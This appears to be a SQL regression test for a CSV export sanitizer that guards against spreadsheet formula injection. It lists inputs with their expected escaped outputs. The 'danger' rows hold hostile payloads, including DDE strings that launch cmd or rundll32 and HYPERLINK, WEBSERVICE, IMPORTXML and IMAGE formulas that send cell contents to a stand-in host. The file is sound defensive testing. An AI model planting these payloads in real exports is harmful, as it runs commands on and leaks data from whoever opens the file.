-- The list of cells that spreadsheets compute, or not, string by string: class, and what stands in an export. One row a
-- string and type; only what differs is shown. The rules are in docs/csv.md. The string of the list that begins with U+0000
-- is the unit tests' alone, since no text here can hold it.
\set SHOW_CONTEXT never
SET ROLE regress_app;

-- sanitized: null where the value stays what it is.
CREATE TEMP TABLE formulas (class text, type text, value text, sanitized text);
INSERT INTO formulas VALUES
    -- danger
    ('danger', 'text', '=1+1', '''=1+1'),
    ('danger', 'text', '+1+1', '''+1+1'),
    ('danger', 'text', '-1+1', '''-1+1'),
    ('danger', 'text', '@SUM(1,1)', '''@SUM(1,1)'),
    ('danger', 'text', '=2+5+cmd|'' /C calc''!A0', '''=2+5+cmd|'' /C calc''!A0'),
    ('danger', 'text', '=cmd|''/C calc''!A0', '''=cmd|''/C calc''!A0'),
    ('danger', 'text', '+cmd|''/C calc''!A0', '''+cmd|''/C calc''!A0'),
    ('danger', 'text', '-cmd|''/C calc''!A0', '''-cmd|''/C calc''!A0'),
    ('danger', 'text', '@SUM(1+1)*cmd|'' /C calc''!A0', '''@SUM(1+1)*cmd|'' /C calc''!A0'),
    ('danger', 'text', '-2+3+cmd|'' /C calc''!A0', '''-2+3+cmd|'' /C calc''!A0'),
    -- danger obfuscated dde
    ('danger', 'text', '=         cmd|''/c calc.exe''!A', '''=         cmd|''/c calc.exe''!A'),
    ('danger', 'text', '=rundll32|''URL.dll,OpenURL calc.exe''!A', '''=rundll32|''URL.dll,OpenURL calc.exe''!A'),
    ('danger', 'text', '=1+1";=1+1', '''=1+1";''=1+1'),
    ('danger', 'text', E'=1+1\nx', E'''=1+1\nx'),
    ('danger', 'text', E'=1+1\r', E'''=1+1\r'),
    -- danger exfiltration
    ('danger', 'text', '=HYPERLINK("http://x.invalid/?"&A1,"ok")', '''=HYPERLINK("http://x.invalid/?"&A1,"ok")'),
    ('danger', 'text', '=WEBSERVICE("http://x.invalid")', '''=WEBSERVICE("http://x.invalid")'),
    ('danger', 'text', '=IMPORTXML("http://x.invalid","//a")', '''=IMPORTXML("http://x.invalid","//a")'),
    ('danger', 'text', '=IMAGE("http://x.invalid/"&A1)', '''=IMAGE("http://x.invalid/"&A1)'),
    -- danger hidden prefix
    ('danger', 'text', ' =1+1', ''' =1+1'),
    ('danger', 'text', E'\u00a0=1+1', E'''\u00a0=1+1'),
    ('danger', 'text', E'\u3000=1+1', E'''\u3000=1+1'),
    ('danger', 'text', E'\u200b=1+1', E'''\u200b=1+1'),
    ('danger', 'text', E'\ufeff=1+1', E'''\ufeff=1+1'),
    ('danger', 'text', E'\t=1+1', E'''\t''=1+1'),
    ('danger', 'text', E'\r=1+1', E'''\r''=1+1'),
    ('danger', 'text', E'\n=1+1', E'''\n''=1+1'),
    ('danger', 'text', E'\u000b=1+1', E'''\u000b=1+1'),
    ('danger', 'text', E'\u202e=1+1', E'''\u202e=1+1'),
    -- danger full-width/small forms
    ('danger', 'text', E'\uff1d1+1', E'''\uff1d1+1'),
    ('danger', 'text', E'\uff0b1+1', E'''\uff0b1+1'),
    ('danger', 'text', E'\uff0d1+1', E'''\uff0d1+1'),
    ('danger', 'text', E'\uff20SUM(1,1)', E'''\uff20SUM(1,1)'),
    ('danger', 'text', E'\ufe661+1', E'''\ufe661+1'),
    -- danger typed / odd
    ('danger', 'text', '+1-1', '''+1-1'),
    ('danger', 'phone', '+1-1', '''+1-1'),
    ('danger', 'text', '+1-555-123-4567', '''+1-555-123-4567'),
    ('danger', 'text', '-1-2', '''-1-2'),
    ('danger', 'text', '=', '''='),
    ('danger', 'text', '==', '''=='),
    ('danger', 'text', '=foo', '''=foo'),
    ('danger', 'header', '=1+1', '''=1+1'),
    ('danger', 'email', '=cmd|''/Ccalc''!A0@example.com', '''=cmd|''/Ccalc''!A0@example.com'),
    -- quote
    ('quote', 'text', '-', '''-'),
    ('quote', 'text', '--', '''--'),
    ('quote', 'text', '---', '''---'),
    ('quote', 'text', '- bullet', '''- bullet'),
    ('quote', 'text', '-foo', '''-foo'),
    ('quote', 'text', '+foo', '''+foo'),
    ('quote', 'text', '-A1', '''-A1'),
    ('quote', 'text', '@handle', '''@handle'),
    ('quote', 'text', '@', '''@'),
    ('quote', 'text', E'\t', E'''\t'),
    ('quote', 'text', E'\tname', E'''\tname'),
    ('quote', 'text', E'-5\n', E'''-5\n'),
    ('quote', 'text', '|calc', '''|calc'),
    ('quote', 'text', '%0A=1', '''%0A=1'),
    ('quote', 'text', ';=1+1', ''';''=1+1'),
    ('quote', 'email', '+tag@example.com', '''+tag@example.com'),
    ('quote', 'email', '-x@example.com', '''-x@example.com'),
    ('quote', 'phone', '+1-555-123-4567', '''+1-555-123-4567'),
    ('quote', 'phone', '+44 20 7183 8750', '''+44 20 7183 8750'),
    ('quote', 'phone', '+49 (0)151 123456', '''+49 (0)151 123456'),
    -- split
    ('split', 'text', 'a;=1+1', 'a;''=1+1'),
    ('split', 'text', 'a;=1+1;b', 'a;''=1+1;b'),
    ('split', 'text', 'a,=1+1', 'a,''=1+1'),
    ('split', 'text', E'a\t=1+1', E'a\t''=1+1'),
    ('split', 'text', E'a\n=1+1', E'a\n''=1+1'),
    -- safe numbers
    ('safe', 'text', '-5', NULL),
    ('safe', 'number', '-5', NULL),
    ('safe', 'text', '+5', NULL),
    ('safe', 'number', '+5', NULL),
    ('safe', 'text', '-0.02', NULL),
    ('safe', 'number', '-0.02', NULL),
    ('safe', 'text', '-1,234.56', NULL),
    ('safe', 'number', '-1,234.56', NULL),
    ('safe', 'text', '-12,5', NULL),
    ('safe', 'number', '-12,5', NULL),
    ('safe', 'text', '-1.5E-3', NULL),
    ('safe', 'number', '-1.5E-3', NULL),
    ('safe', 'text', '-50%', NULL),
    ('safe', 'number', '-50%', NULL),
    ('safe', 'text', '−5', NULL),
    ('safe', 'number', '−5', NULL),
    ('safe', 'text', '+15551234567', NULL),
    ('safe', 'phone', '+15551234567', NULL),
    -- safe text
    ('safe', 'text', 'user+tag@example.com', NULL),
    ('safe', 'text', 'a=b', NULL),
    ('safe', 'text', '0=1', NULL),
    ('safe', 'text', 'O''Neil', NULL),
    ('safe', 'text', 'C++', NULL),
    ('safe', 'text', '1-2', NULL),
    ('safe', 'text', 'A1', NULL),
    ('safe', 'text', 'TRUE', NULL),
    ('safe', 'text', '2020-01-01', NULL),
    ('safe', 'text', '(555) 123', NULL),
    ('safe', 'text', '– 5', NULL),
    ('safe', 'text', 'https://e.com/?a=1&b=-2', NULL),
    ('safe', 'text', 'a"=1+1', NULL),
    ('safe', 'text', '''=1+1', NULL),
    ('safe', 'text', '''-5', NULL),
    ('safe', 'text', ' name', NULL),
    ('safe', 'text', 'DDE ("cmd";"/C calc";"!A0")A0', NULL),
    ('safe', 'text', '', NULL);

SELECT class, type, to_json(value) AS value, rowhouse.csv_classify(value, type) AS got_class, to_json(rowhouse.csv_sanitize(value, type)) AS got
FROM formulas
WHERE rowhouse.csv_classify(value, type) <> class OR rowhouse.csv_sanitize(value, type) <> coalesce(sanitized, value)
   OR (class = 'safe') <> (sanitized IS NULL);
SELECT class, count(*) AS strings FROM formulas GROUP BY class ORDER BY class;

-- Sanitised, nothing is left to do, whatever the type, and however often.
SELECT f.type, t.type, to_json(value) AS value, to_json(rowhouse.csv_sanitize(value, t.type)) AS sanitized
FROM formulas f, (VALUES ('text'), ('number'), ('email'), ('phone'), ('header')) t(type)
WHERE rowhouse.csv_classify(rowhouse.csv_sanitize(value, t.type), t.type) <> 'safe'
   OR rowhouse.csv_sanitize(rowhouse.csv_sanitize(value, t.type), t.type) <> rowhouse.csv_sanitize(value, t.type);
-- Nothing is taken away: without the apostrophes that were put there it is the value.
SELECT to_json(value) AS value FROM formulas
WHERE replace(rowhouse.csv_sanitize(value, type), '''', '') <> replace(value, '''', '');

-- Rule by rule.
SELECT rule, type, to_json(value) AS value, rowhouse.csv_classify(value, type) AS class, to_json(rowhouse.csv_sanitize(value, type)) AS sanitized
FROM (VALUES
    ('1 hidden characters, forms', 'text', E'\u200b\u202e\uff1d1+1'), ('1 hidden characters, forms', 'text', E'\u00a0name'),
    ('2 triggers', 'text', '=x'), ('2 triggers', 'text', '|x'), ('2 triggers', 'text', '%x'), ('2 triggers', 'text', ';x'), ('2 triggers', 'text', '#x'),
    ('3 whole numbers', 'text', '-1.234.567,8'), ('3 whole numbers', 'text', '-1.2.3'), ('3 whole numbers', 'text', '-5%'), ('3 whole numbers', 'text', '-5 %'),
    ('4 types', 'text', '+1 (202) 555-0123'), ('4 types', 'phone', '+1 (202) 555-0123'), ('4 types', 'phone', '=1'), ('4 types', 'number', '=1'),
    ('5 other separators', 'text', E'a|=1;+2,@x\t-y'), ('5 other separators', 'text', 'thanks, @bob'), ('5 other separators', 'text', 'thanks,@bob'),
    ('5 other separators', 'text', 'x; =1'), ('5 other separators', 'text', 'x;"=1"'), ('5 the next cell', 'text', 'x; -'), ('5 the next cell', 'text', 'x; -1&'),
    ('6 headers', 'header', '@total'), ('7 apostrophes', 'text', '''=1'), ('7 apostrophes', 'text', '''''=1')) r(rule, type, value);
